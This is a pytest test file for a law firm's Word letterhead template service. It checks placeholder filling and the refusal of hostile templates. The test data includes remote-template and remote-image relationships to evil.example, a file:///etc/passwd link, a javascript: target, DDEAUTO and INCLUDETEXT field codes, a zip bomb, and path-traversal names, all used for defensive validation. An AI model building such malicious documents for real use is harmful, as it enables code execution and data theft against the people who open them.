"""Word templates of the firm: what is kept of them, what goes into them, and what is refused."""

import io
import re
import zipfile
from collections.abc import Mapping

import docx
import pytest

from core.errors import InputError, NotFound
from service.config import ROOT
from service.opinions import letterheads
from service.opinions.formats import FORMATS, Format
from service.opinions.letterheads import add, content, example, names, remove
from service.opinions.placeholders import fill
from tests.bombs import swollen
from tests.factories import settings_of
from tests.opinions import notes, part
from tests.unit.test_opinion_formats import bare, opinion, read_word, said

SETTINGS = settings_of()
RELATION = '<Relationship Id="rId90" Type="{kind}" Target="{target}" TargetMode="External"/>'
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TOLD = ("plantilla.docx", "enlaza")
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def saved(document) -> bytes:
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def firm(*lines: str, header: str = "Bufete Inventado, S. L. P.") -> bytes:
    """A template of a firm with a header, a style and a text of its own."""
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = header
    document.sections[0].footer.paragraphs[0].text = "Calle Falsa, 1"
    document.styles["Normal"].font.name = "Garamond"
    for line in lines:
        document.add_paragraph(line)
    return saved(document)


def changed(
    template: bytes, parts: Mapping[str, tuple[str, str]] = {}, more: Mapping[str, bytes] = {}
) -> bytes:
    """The package with words of parts replaced, and with parts besides."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            text = old.read(name)
            if name in parts:
                before, after = parts[name]
                assert before.encode() in text
                text = text.replace(before.encode(), after.encode(), 1)
            new.writestr(name, text)
        for name, text in more.items():
            new.writestr(name, text)
    return stream.getvalue()


GROUNDS = "{{fundamentos}}"
GOOD = firm("Nuestra referencia: 7", GROUNDS)


def related(kind: str, target: str, mode: str = "External") -> bytes:
    row = RELATION.format(kind=f"{OFFICE}/{kind}", target=target).replace("External", mode)
    return changed(GOOD, {"word/_rels/document.xml.rels": ("</Relationships>", f"{row}</Relationships>")})


def encoded(template: bytes, part: str = "word/_rels/document.xml.rels") -> bytes:
    """The package with a part in UTF-16, in which no byte pattern of ours is found."""
    with zipfile.ZipFile(io.BytesIO(template)) as package:
        text = package.read(part).decode().partition("?>")[2]
        others = {name: package.read(name) for name in package.namelist() if name != part}
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        for name, content_of in {**others, part: text.encode("utf-16")}.items():
            package.writestr(name, content_of)
    return stream.getvalue()


def paragraphs(file: bytes) -> list[str]:
    return [one.text for one in docx.Document(io.BytesIO(file)).paragraphs]


def test_an_opinion_in_the_example_has_all_that_one_without_a_template_has() -> None:
    one = opinion()
    file = fill(example(), one)
    read = bare(read_word(file))
    assert [text for text in said(one) if bare(text) not in read] == []
    assert "{{" not in read
    plain = FORMATS[Format.WORD].write(one)
    assert notes(file) == notes(plain)
    assert [text for text in paragraphs(file) if text != "22 de noviembre de 2026"] == paragraphs(plain)


def test_header_footer_styles_and_words_of_the_firm_are_kept() -> None:
    file = fill(
        firm("Nuestra referencia: 7", GROUNDS, "Firmado", header="Bufete {{titulo}}, {{ fecha }}"), opinion()
    )
    document = docx.Document(io.BytesIO(file))
    assert document.sections[0].header.paragraphs[0].text == "Bufete Dictamen, 22 de noviembre de 2026"
    assert document.sections[0].footer.paragraphs[0].text == "Calle Falsa, 1"
    assert document.styles["Normal"].font.name == "Garamond"
    said = paragraphs(file)
    assert said[0] == "Nuestra referencia: 7"
    grounds, signed = said.index("1. ¿Cuándo caduca la acción?"), said.index("Firmado")
    assert 0 < grounds < signed, "each part stands where its placeholder stood"
    assert said.index("Procedencia del texto") > signed, "what the template does not name follows"
    assert said[-1] == opinion().state


def test_a_placeholder_that_word_has_cut_into_runs_is_one() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("A ")
    for piece in ("{{ti", "tu", "lo}} y {{fecha}", "}."):
        paragraph.add_run(piece)
    grounds = document.add_paragraph("")
    for piece in ("{{", "fundamentos", "}}"):
        grounds.add_run(piece)
    file = fill(saved(document), opinion())
    assert paragraphs(file)[0] == "A Dictamen y 22 de noviembre de 2026."
    assert "1. ¿Cuándo caduca la acción?" in paragraphs(file)


def test_the_notes_of_a_template_stay_and_ours_follow_them() -> None:
    first = FORMATS[Format.WORD].write(opinion())
    document = docx.Document(io.BytesIO(first))
    document.add_paragraph(GROUNDS)
    file = fill(saved(document), opinion())
    assert notes(file) == [*notes(first), *notes(first)]
    ids = re.findall(r'<w:footnote w:id="(\d+)"', part(file, "word/footnotes.xml"))
    assert len(ids) == len(set(ids))
    assert sorted(re.findall(r'footnoteReference w:id="(\d+)"', part(file, "word/document.xml"))) == sorted(
        ids
    )


def test_a_template_without_our_styles_gets_them() -> None:
    document = docx.Document()
    for name in ("Quote", "List Bullet", "List Number", "Table Grid", "Heading 2"):
        style = document.styles[name].element
        style.getparent().remove(style)
    document.add_paragraph(GROUNDS)
    document.add_paragraph("{{cuestiones}}")
    file = fill(saved(document), opinion())
    assert "• Dos" in paragraphs(file)
    assert any(text == "1. ¿Cuándo caduca la acción?" for text in paragraphs(file))


def test_the_state_stands_where_the_template_wants_it_and_a_former_annex_leaves_no_trace() -> None:
    file = fill(firm("{{estado}}", GROUNDS, "{{anexo}}"), opinion())
    said = paragraphs(file)
    assert said[0] == opinion().state and said.count(opinion().state) == 1
    assert not any("anexo" in one for one in said)


def test_a_title_is_text_and_never_a_placeholder_again() -> None:
    one = opinion().model_copy(update={"title": "Sobre {{titulo}} y {{fecha}}"})
    assert paragraphs(fill(firm("{{titulo}}", GROUNDS), one))[0].startswith("Sobre ")


REFUSED = {
    "empty": (b"", "plantilla.docx", "sin macros"),
    "no zip": (b"%PDF-1.7", "plantilla.docx", "sin macros"),
    "a pdf by its name": (GOOD, "plantilla.pdf", "sin macros"),
    "docm": (GOOD, "plantilla.docm", "sin macros"),
    "half": (GOOD[: len(GOOD) // 2], "plantilla.docx", "dañado"),
    "too big": (b"PK" + bytes(5_000_001), "plantilla.docx", "5 MB"),
    "another zip": (changed(GOOD, more={}), "plantilla.xlsx", "sin macros"),
    "without placeholders": (firm("Hola"), "plantilla.docx", "no tiene {{fundamentos}}"),
    "unknown one": (firm(GROUNDS, "{{cliente}}"), "plantilla.docx", "no se conoce «{{cliente}}»"),
    "not alone": (firm("Así: {{fundamentos}}"), "plantilla.docx", "solo en un párrafo"),
    "twice": (firm(GROUNDS, GROUNDS), "plantilla.docx", "una sola vez"),
    "in a header": (firm(GROUNDS, header="{{anexo}}"), "plantilla.docx", "solo en un párrafo"),
    "macros": (changed(GOOD, more={"word/vbaProject.bin": b"x"}), "plantilla.docx", "tiene macros"),
    "renamed docm": (
        changed(GOOD, {"[Content_Types].xml": ("wordprocessingml.document.main", "macroEnabled.main")}),
        "plantilla.docx",
        "tiene macros",
    ),
    "embedded": (changed(GOOD, more={"word/embeddings/a.xlsx": b"x"}), "plantilla.docx", "incrustados"),
    "template from outside": (
        related("attachedTemplate", "https://evil.example/x.dotm"),
        "plantilla.docx",
        "enlaza",
    ),
    "image from outside": (related("image", "https://evil.example/x.png"), "plantilla.docx", "enlaza"),
    "file of the machine": (related("hyperlink", "file:///etc/passwd"), "plantilla.docx", "enlaza"),
    "script": (related("hyperlink", "javascript:alert(1)"), "plantilla.docx", "enlaza"),
    "a target with a sign that ends tags": (
        related("attachedTemplate", "https://evil.example/t.dotm?a>b"),
        *TOLD,
    ),
    "in another encoding": (encoded(related("attachedTemplate", "https://evil.example/x.dotm")), *TOLD),
    "with other quotation marks, prefix and order": (
        changed(
            GOOD,
            {
                "word/_rels/document.xml.rels": (
                    "</Relationships>",
                    f"<r:Relationship xmlns:r='{PACKAGE}' TargetMode = ' external ' Target='https://evil.example'"
                    f" Type='{OFFICE}/image' Id='rId90'/></Relationships>",
                )
            },
        ),
        *TOLD,
    ),
    "in a part without the usual name": (
        changed(
            GOOD,
            {"[Content_Types].xml": ("</Types>", '<Default Extension="q" ContentType="a/b+xml"/></Types>')},
            {"word/x.q": RELATION.format(kind=f"{OFFICE}/image", target="https://evil.example").encode()},
        ),
        *TOLD,
    ),
    "renamed docm in another encoding": (
        encoded(
            changed(GOOD, {"[Content_Types].xml": ("wordprocessingml.document.main", "macroEnabled.main")}),
            "[Content_Types].xml",
        ),
        "plantilla.docx",
        "tiene macros",
    ),
    "web page within": (related("aFChunk", "page.mht", mode="Internal"), "plantilla.docx", "incrustados"),
    "no XML": (
        changed(GOOD, {"word/styles.xml": ("<w:styles", "<<w:styles")}),
        "plantilla.docx",
        "sin macros",
    ),
    "no name": (GOOD, "….docx", "no tiene letras"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_cannot_be_a_template_is_refused_in_one_sentence(tmp_path, case: str) -> None:
    contents, name, told = REFUSED[case]
    with pytest.raises(InputError) as refused:
        add(tmp_path, SETTINGS, name, contents)
    assert told in str(refused.value) and len(str(refused.value).splitlines()) == 1
    assert names(tmp_path) == []


FORMS = [
    line.removeprefix("- ").split(" ¦ ")
    for line in (ROOT / "tests" / "cases" / "word_templates.md").read_text("utf-8").splitlines()
    if line.startswith("- ")
]
_RELATED = re.compile(r"REL\((?P<kind>[^,]*), (?P<target>.*), (?P<mode>[^,]*)\)")


@pytest.mark.parametrize("form", FORMS, ids=lambda form: form[2][:60])
def test_each_hostile_form_is_refused(tmp_path, form: list[str]) -> None:
    part, place, words, told = form
    row = _RELATED.fullmatch(words)
    if row:
        words = RELATION.format(kind=f"{OFFICE}/{row['kind']}", target=row["target"]).replace(
            "External", row["mode"]
        )
    before = place.removeprefix("=")
    hostile = changed(GOOD, {part: (before, words if place.startswith("=") else words + before)})
    for contents in (hostile, encoded(hostile, part)):
        with pytest.raises(InputError, match=told):
            add(tmp_path, SETTINGS, "plantilla.docx", contents)
    assert names(tmp_path) == []


@pytest.mark.parametrize(
    "order",
    ["PAGE", " numpages \\* Arabic ", 'HYPERLINK "https://bufete.example" \\o x', 'HYPERLINK \\l "a"'],
)
def test_fields_of_the_document_itself_are_let_in(tmp_path, order: str) -> None:
    row = f"<w:p><w:fldSimple w:instr='{order}'/></w:p><w:sectPr"
    assert (
        add(tmp_path, SETTINGS, "una.docx", changed(GOOD, {"word/document.xml": ("<w:sectPr", row)})) == "una"
    )


@pytest.mark.parametrize("order", ["DDEAUTO c:\\\\x", "INCLUDETEXT /etc/passwd", "INCLUDEPICTURE x"])
def test_fields_that_ask_for_something_else_are_refused(tmp_path, order: str) -> None:
    row = f'<w:p><w:fldSimple w:instr=" {order} "/></w:p><w:sectPr'
    hostile = changed(GOOD, {"word/document.xml": ("<w:sectPr", row)})
    cut = "".join(f"<w:r><w:instrText>{sign}</w:instrText></w:r>" for sign in order)
    in_pieces = changed(GOOD, {"word/document.xml": ("<w:sectPr", f"<w:p>{cut}</w:p><w:sectPr")})
    for contents in (hostile, in_pieces):
        with pytest.raises(InputError, match="campos que piden datos"):
            add(tmp_path, SETTINGS, "plantilla.docx", contents)


def test_a_declaration_or_a_bomb_is_refused(tmp_path) -> None:
    declared = changed(GOOD, {"word/document.xml": ("<w:document", "<!DOCTYPE a><w:document")})
    bomb = changed(GOOD, more={"word/media/a.xml": bytes(60_000_000)})
    for contents in (declared, bomb, swollen(300)):
        with pytest.raises(InputError):
            add(tmp_path, SETTINGS, "plantilla.docx", contents)
    assert names(tmp_path) == []


def test_two_parts_of_one_name_are_refused(tmp_path) -> None:
    stream = io.BytesIO(GOOD)
    with zipfile.ZipFile(stream, "a") as package, pytest.warns(UserWarning):
        package.writestr("word/document.xml", b"<x/>")
    with pytest.raises(InputError, match="sin macros"):
        add(tmp_path, SETTINGS, "plantilla.docx", stream.getvalue())


def test_a_link_to_the_page_of_the_firm_is_no_harm(tmp_path) -> None:
    assert (
        add(tmp_path, SETTINGS, "plantilla.docx", related("hyperlink", "https://bufete.example"))
        == "plantilla"
    )


def test_a_template_is_kept_replaced_read_and_removed(tmp_path) -> None:
    assert add(tmp_path, SETTINGS, "../../Mi plantilla ñ.DOCX", GOOD) == "Mi plantilla ñ"
    assert names(tmp_path) == ["Mi plantilla ñ"] and content(tmp_path, "Mi plantilla ñ") == GOOD
    other = firm(GROUNDS)
    add(tmp_path, SETTINGS, "Mi plantilla ñ.docx", other)
    assert content(tmp_path, "Mi plantilla ñ") == other and len(names(tmp_path)) == 1
    assert [path.name for path in tmp_path.iterdir()] == [letterheads.FOLDER]
    remove(tmp_path, "Mi plantilla ñ")
    assert names(tmp_path) == []


@pytest.mark.parametrize("name", ["", "..", "../secreto", "nada", "/etc/passwd"])
def test_a_name_leads_to_no_other_file(tmp_path, name: str) -> None:
    (tmp_path / "secreto.docx").write_bytes(b"x")
    for act in (content, remove):
        with pytest.raises(NotFound):
            act(tmp_path, name)
    assert (tmp_path / "secreto.docx").exists()


def test_there_are_no_more_than_a_few(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(letterheads, "MOST", 1)
    add(tmp_path, SETTINGS, "una.docx", GOOD)
    with pytest.raises(InputError, match="quite antes alguna"):
        add(tmp_path, SETTINGS, "otra.docx", GOOD)
    assert add(tmp_path, SETTINGS, "una.docx", GOOD) == "una"
